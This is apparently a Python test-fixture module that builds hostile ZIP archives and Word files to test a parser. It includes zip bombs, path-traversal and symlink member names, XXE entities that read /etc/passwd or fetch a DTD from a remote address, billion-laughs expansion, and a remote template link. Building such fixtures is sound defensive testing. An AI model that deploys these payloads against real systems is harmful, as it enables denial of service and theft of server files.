"""Hostile ZIP archives, and Word documents, which are ZIP archives: bombs, archives in archives, names that lead outside, lies."""

import io
import stat
import struct
import zipfile
from collections.abc import Iterator, Mapping

from tests.hostile.tearing import torn

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
EPOCH = (2026, 11, 26, 12, 0, 0)
NAMES = {
    "slip-upwards": "../../../../tmp/slipped",
    "slip-to-the-root": "/etc/cron.d/slipped",
    "slip-with-backslashes": "..\\..\\..\\windows\\slipped",
    "slip-to-a-drive": "C:\\slipped",
    "slip-to-a-share": "\\\\server.example.org\\share\\slipped",
    "slip-in-the-middle": "letters/../../slipped",
    "slip-behind-a-null": "letter.txt\x00/../../slipped",
    "a-name-of-dots": "..",
    "an-empty-name": "",
    "a-name-of-60000-letters": "x" * 60_000,
    "a-name-of-a-thousand-folders": "x/" * 1_000 + "x",
    "a-name-written-backwards": "letter\u202efdp.exe",
    "a-name-with-lines": "letter\r\nBcc: x@example.org.txt",
}
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))


def hostile() -> Iterator[tuple[str, bytes]]:
    """All of them."""
    yield from torn("archive", "zip", archive({"letter.txt": b"Bonjour " * 1_000}))
    yield from torn("word", "docx", word("<w:p><w:r><w:t>Bonjour</w:t></w:r></w:p>"))
    for name, member in NAMES.items():
        yield f"archive-{name}.zip", archive({member: b"x"})
    for name, content in {**_bombs(), **_lies()}.items():
        yield f"archive-{name}.zip", content
    for name, content in {**_words(), **_parts()}.items():
        yield f"word-{name}.docx", content


def archive(members: Mapping[str, bytes], mode: int = stat.S_IFREG | 0o600) -> bytes:
    """Members, each compressed."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            told = zipfile.ZipInfo("letter", EPOCH)
            told.filename, told.external_attr, told.compress_type = name, mode << 16, zipfile.ZIP_DEFLATED
            made.writestr(told, content)
    return written.getvalue()


def word(body: str, *, before: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    """A document; `before` stands between the XML declaration and the root, `more` are further parts, which may replace others."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    override = f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'
    types = f'<Types xmlns="{TYPES}">{override}</Types>'
    link = f'<Relationship Id="r1" Type="{relation}" Target="word/document.xml"/>'
    links = f'<Relationships xmlns="{LINKS}">{link}</Relationships>'
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    parts = {"[Content_Types].xml": types.encode(), "_rels/.rels": links.encode(), "word/document.xml": document.encode()}
    return archive({**parts, **(more or {})})


def _bombs() -> dict[str, bytes]:
    inner = {"letter.zip": archive({"letter.txt": bytes(100_000_000)})}
    for _ in range(4):
        inner = {f"{number}.zip": archive(inner) for number in range(8)}
    deep = b"letter"
    for _ in range(200):
        deep = archive({"inner.zip": deep})
    return {
        "half-a-gigabyte-of-nothing": archive({"letter.txt": bytes(500_000_000)}),
        "a-hundred-large-members": archive({f"{number}.txt": bytes(10_000_000) for number in range(50)}),
        "archives-in-archives-eight-each": archive(inner),
        "archives-200-deep": deep,
        "20000-members": archive({f"{number}.txt": b"" for number in range(20_000)}),
        "a-thousand-members-of-one-name": _repeated(1_000),
        "members-that-overlap": _overlapping(2_000),
        "a-pdf-bomb-inside": archive({"letter.pdf": b"%PDF-1.7\n" + b"[" * 3_000_000}),
    }


def _repeated(times: int) -> bytes:
    """The same name again and again: which one counts?"""
    names = archive({f"{number:06}.txt": str(number).encode() for number in range(times)})
    for number in range(1, times):
        names = names.replace(b"%06d.txt" % number, b"000000.txt")
    return names


def _overlapping(members: int) -> bytes:
    """Entries of the directory that all point to the same compressed megabytes: a small file, gigabytes unpacked."""
    single = archive({"letter.txt": bytes(20_000_000)})
    start, size, count = _directory(single)
    entry = single[start : start + size]
    return single[:start] + entry * members + _end(count * members, size * members, start)


def _directory(whole: bytes) -> tuple[int, int, int]:
    """Where the directory starts, how long it is, and how many entries it has."""
    count, size, start = struct.unpack_from("<HII", whole, len(whole) - 12)
    return start, size, count


def _end(count: int, size: int, start: int) -> bytes:
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, size, start, 0)


def _lies() -> dict[str, bytes]:
    sound = archive({"letter.txt": b"Bonjour"})
    start, size, _ = _directory(sound)
    body = sound[: start + size]
    named = sound.find(b"letter.txt", start)
    encrypted = bytearray(sound)
    encrypted[6] |= 1
    encrypted[start + 8] |= 1
    method = bytearray(sound)
    method[8] = method[start + 10] = 98
    huge = bytearray(sound)
    huge[start + 24 : start + 28] = b"\xff\xff\xff\xff"
    return {
        "a-link-outside": archive({"letter.txt": b"/etc/passwd"}, stat.S_IFLNK | 0o777),
        "a-device": archive({"letter.txt": b""}, stat.S_IFBLK | 0o777),
        "a-pipe": archive({"letter.txt": b""}, stat.S_IFIFO | 0o777),
        "encrypted": bytes(encrypted),
        "a-method-that-nobody-knows": bytes(method),
        "a-size-that-is-not-true": bytes(huge),
        "another-name-inside": sound[:named] + b"secret.exe" + sound[named + 10 :],
        "more-entries-than-there-are": body + _end(65_535, size, start),
        "a-directory-beyond-the-end": body + _end(1, size, 0xFFFFFFF0),
        "a-directory-of-thousands-of-millions": body + _end(1, 0xFFFFFFFF, start),
        "a-comment-of-64-kilobytes": body + _end(1, size, start)[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_383 + b"xxx",
        "only-an-end": _end(0, 0, 0),
        "zip64-of-nothing": b"PK\x06\x06" + b"\xff" * 52 + b"PK\x06\x07" + b"\xff" * 16 + _end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF),
        "nothing-but-signatures": b"PK\x03\x04" * 500_000,
        "rar-in-disguise": b"Rar!\x1a\x07\x00" + bytes(range(256)) * 100,
        "gzip-in-disguise": b"\x1f\x8b\x08" + bytes(range(256)) * 100,
    }


def _words() -> dict[str, bytes]:
    laughs = f'<!DOCTYPE w [<!ENTITY a0 "ha">{ENTITIES}]>'
    outside = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    fetched = '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>'
    text = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    return {
        "a-thousand-million-laughs": word(text.format("&a11;"), before=laughs),
        "a-quadratic-entity": word(text.format("&a;" * 30_000), before=f'<!DOCTYPE w [<!ENTITY a "{"x" * 30_000}">]>'),
        "an-entity-from-a-file": word(text.format("&a;"), before=outside),
        "an-entity-from-an-address": word(text.format("x"), before=fetched),
        "tables-10000-deep": word("<w:tbl><w:tr><w:tc>" * 10_000 + "</w:tc></w:tr></w:tbl>" * 10_000),
        "elements-half-a-million-deep": word("<w:p>" * 500_000 + "</w:p>" * 500_000),
        "a-million-paragraphs": word("<w:p/>" * 1_000_000),
        "a-text-of-100-megabytes": word(text.format("x" * 100_000_000)),
        "an-element-of-100000-attributes": word("<w:p " + " ".join(f'a{n}="{n}"' for n in range(100_000)) + "/>"),
        "never-closed": word("<w:p>" * 100_000),
        "a-table-of-a-million-columns": word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr></w:tc></w:tr></w:tbl>'),
        "nulls": word(text.format("\x00\x01")),
    }


def _parts() -> dict[str, bytes]:
    link = '<Relationships xmlns="' + LINKS + '">{}</Relationships>'
    entry = '<Relationship Id="r{0}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{1}" Target="{2}" {3}/>'
    laughs = f'<!DOCTYPE w [<!ENTITY a0 "ha">{ENTITIES}]>'
    template = entry.format(1, "attachedTemplate", "http://192.0.2.1/x.dotm", 'TargetMode="External"')
    return {
        "no-document": archive({"[Content_Types].xml": b"<Types/>"}),
        "a-template-from-an-address": word("", more={"word/_rels/document.xml.rels": link.format(template).encode()}),
        "a-part-outside": word("", more={"_rels/.rels": link.format(entry.format(1, "officeDocument", "../../etc/passwd", "")).encode()}),
        "a-document-that-is-its-links": word(
            "", more={"_rels/.rels": link.format(entry.format(1, "officeDocument", "_rels/.rels", "")).encode()}
        ),
        "100000-links": word(
            "",
            more={"word/_rels/document.xml.rels": link.format("".join(entry.format(n, "image", "x", "") for n in range(100_000))).encode()},
        ),
        "utf16-with-entities": word(
            "",
            more={"word/document.xml": f'<?xml version="1.0" encoding="utf-16"?>{laughs}<w>&a11;</w>'.encode("utf-16")},
        ),
        "utf7": word("", more={"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?>+ADw-w+AD4-'}),
        "binary-in-place-of-text": word("", more={"word/document.xml": bytes(range(256)) * 1_000}),
        "a-bomb-in-a-picture": word("", more={"word/media/image1.png": bytes(200_000_000)}),
        "an-old-document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000),
    }
